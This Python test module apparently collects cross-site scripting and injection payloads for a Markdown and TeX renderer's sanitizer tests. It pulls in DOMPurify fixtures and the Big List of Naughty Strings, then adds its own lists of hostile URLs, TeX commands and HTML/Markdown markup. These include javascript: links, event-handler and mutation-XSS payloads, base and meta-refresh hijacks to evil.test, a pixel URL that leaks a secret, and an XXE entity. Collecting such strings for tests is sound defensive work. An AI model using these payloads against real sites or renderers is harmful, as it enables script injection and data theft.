"""Texts that try to act: the published corpora, from their packages, and what is aimed at Markdown and formulas.

DOMPurify's fixtures (with those of the HTML5 Security Cheatsheet) are in the package of its version 0.8.2, the last
that came with them; the Big List of Naughty Strings has OWASP's filter evasion cheat sheet among others.
"""

from __future__ import annotations

import json
import subprocess
from functools import cache
from itertools import product

from tests.browser.conftest import ROOT

NODE_MODULES = ROOT / "node_modules"

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript://ok.test/%0Aalert(1)",
    "jav%61script:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "//evil.test/x",
    "/\\evil.test/x",
    "/api/out?secret",
    "https://evil.test/pixel.png?secret",
    "https:evil.test",
    "http://evil.test:80@ok.test/",
    'https://evil.test/"onmouseover=alert(1)//',
    "https://evil.test/'onmouseover='alert(1)",
    "https://evil.test/`onmouseover=alert(1)",
    "https://evil.test/<script>alert(1)</script>",
    "https://[::1",
    "https://%65vil.test/",
    "https://ok.test\\@evil.test/",
    "https://ok.test#@evil.test/",
    "https://ok.test%23@evil.test/",
    "https://evil\u3002test/",
    "https://\u24d4vil.test/",
    "http://0x7f.1/",
    "http://2130706433/",
    "http://[::ffff:1.2.3.4]/",
    "mailto:a@b.test?body=<script>alert(1)</script>",
]
SHAPES = ["{}", "[![x]({})]({})", '<a href="{}">x</a>', "<{}>\n\n[x]: <{}> '\"><img src=x onerror=alert(1)>'\n\n[x]"]
TEX = [
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\includegraphics{https://evil.test/p.png}",
    r"\includegraphics[alt=x]{javascript:alert(1)}",
    r"\class{x}{y}",
    r"\id{x}{y}",
    r"\style{background:url(https://evil.test/)}{x}",
    r"\data{onclick=alert(1)}{x}",
    r"\htmlClass{x}{y}",
    r"\htmlId{conversation}{y}",
    r"\htmlStyle{background:url(//evil.test)}{y}",
    r"\htmlData{a=b}{y}",
    r"\color{url(https://evil.test)}x",
    r"\colorbox{red;background:url(//evil.test)}{x}",
    r"\textcolor{red\" onclick=\"alert(1)}{x}",
    r"\rule{1em;position:fixed}{99em}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</mtext><script>alert(1)</script>}",
    r"\unicode{<script>}",
    r"\tag{<script>alert(1)</script>}x",
    r"\label{\"><script>alert(1)</script>}x",
    r"\ref{javascript:alert(1)}",
    r"\begin{equation}\label{conversation}x\end{equation}",
    r"\eqref{conversation}",
    r"\def\x{\x\x}\x",
    r"\newcommand{\x}[1]{\href{#1}{x}}\x{javascript:alert(1)}",
    r"\begin{matrix}<script>&alert(1)\end{matrix}",
    r"\char`<script>",
    r"\mathchoice{<}{s}{c}{>}",
    r"\hspace{9999em}",
]
MARKUP = [
    '``` "onload="alert(1)\nx\n```',
    "```<script>\nalert(1)\n```",
    '```js"><img src=x onerror=alert(1)>\nx',
    "~~~html\n<script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```constructor\nx\n```",
    "```__proto__\nx\n```",
    "```../../sw\nx\n```",
    "```toString\nx\n```\n\n```valueOf\ny\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|a|\n|:-" onclick=alert(1)|\n|b|',
    "- [<script>alert(1)</script>] x",
    "- [x] <input autofocus onfocus=alert(1)>",
    "<think><script>alert(1)</script></think><img src=x onerror=alert(1)>",
    "<think>x</think><think><iframe srcdoc='<script>alert(1)</script>'>",
    "<thinking onclick=alert(1)>x</thinking>",
    '1"onclick=alert(1). x',
    "999999999. x",
    "[__proto__]: https://evil.test\n\n[__proto__] [constructor]",
    "[x](https://a.test '\" onclick=alert(1) \"')",
    '[x](https://a.test "&quot; onclick=alert(1)")',
    "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.test'>]>&y;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>`alert(1)`</script>`",
    "**<script>**alert(1)**</script>**",
    "<scr\n\nipt>alert(1)</scr\n\nipt>",
    "<svg><style><img/src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<form action=https://evil.test><button formaction=javascript:alert(1)>x</button></form>",
    "<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>",
    "<button type=button class=code-copy data-action=apply-update>x</button>",
    "<button type=button data-action=retry-setup>x</button>",
    "<img id=conversation name=drive>",
    "{text}{0}{{x}}%s%(x)s${alert(1)}#{alert(1)}",
    "\u202e\u2066<script>alert(1)</script>",
    "\0<\0script\0>alert(1)",
    "\ud7ff\ufeff<script\ufeff>alert(1)</script>",
]


@cache
def payloads() -> tuple[str, ...]:
    """Every payload once."""
    made = [shape.replace("{}", url) for shape, url in product(SHAPES, URLS)]
    return tuple(dict.fromkeys([*dompurify(), *naughty_strings(), *made, *TEX, *MARKUP]))


def dompurify() -> list[str]:
    """Its fixtures are a CommonJS module, because some payloads have no place in JSON."""
    file = NODE_MODULES / "dompurify-fixtures" / "test" / "fixtures" / "expect.js"
    script = f"console.log(JSON.stringify(require({json.dumps(str(file))}).map((test) => test.payload)))"
    found = subprocess.run(["node", "--eval", script], check=True, capture_output=True, text=True).stdout
    return [str(payload) for payload in json.loads(found)]


def naughty_strings() -> list[str]:
    found = json.loads((NODE_MODULES / "blns" / "resources" / "blns.json").read_text("utf-8"))
    return [str(payload) for payload in found if payload]
